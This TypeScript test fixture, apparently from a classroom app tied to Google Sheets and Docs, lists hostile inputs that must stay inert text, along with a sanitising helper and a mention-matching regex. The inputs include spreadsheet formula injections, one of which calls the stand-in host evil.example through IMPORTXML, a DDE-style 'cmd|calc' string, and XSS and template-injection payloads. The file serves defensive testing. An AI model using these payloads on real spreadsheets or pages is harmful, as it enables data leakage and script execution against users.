// Owns: texts that children, teachers and Classroom may hand over and that must stay mere words.

const RUN = 'globalThis.evil=1';

/** By what is wrong with each; every one can be told from the others. */
export const HOSTILE: Readonly<Record<string, string>> = {
  formula: '=IMPORTXML("https://evil.example","//a")',
  plus: '+cmd|calc!A1',
  minus: '-1+cmd!A1',
  at: '@SUM(1+1)',
  'tab first': '\t=1+1',
  'return first': '\r=2+2',
  'full-width equals': '＝3＋3',
  'full-width at': '＠SUM(4)',
  apostrophe: "'=5+5",
  number: '007',
  date: '1/2',
  truth: 'TRUE',
  image: `<img src=x onerror="${RUN}">`,
  script: `</script><script>${RUN}</script>`,
  attribute: `" onmouseover="${RUN}" autofocus onfocus="${RUN}`,
  vector: `<svg/onload=${RUN}>`,
  comment: '<!-- ]]> --></style></title></textarea>',
  scriptlet: `<?= ${RUN} ?><?!= ${RUN} ?>`,
  template: '{{constructor.constructor("globalThis.evil=1")()}}',
  literal: `\${${RUN}}\``,
  replacement: "$& $1 $' $`",
  'right to left': '\u202eevoL\u202c שלום',
  'zero width': 'A\u200bn\u200da\ufeff\u2060',
  family: '👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽',
  combining: `Z${'\u0351'.repeat(60)}`,
  'half a sign': 'half \ud83d sign',
  'other half': 'half \udc4d sign',
  nul: 'before\u0000after\u0008',
  'long word': 'w'.repeat(300),
  address: '@ben@school.example and +ben@school.example, ＠ben@school.example',
  prototype: '__proto__',
};

/** As a cell and Google keep it: without what neither takes. */
export const heldAs = (text: string): string =>
  text
    .replace(/\r\n?/g, '\n')
    // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is taken out
    .replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/g, '')
    .replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd');

/** What Docs makes a mention of, whose owner then gets an email. */
export const MENTION = /(?:^|\s)[@+＠＋]\S*@|\S[@＠]\S+\.\S/;
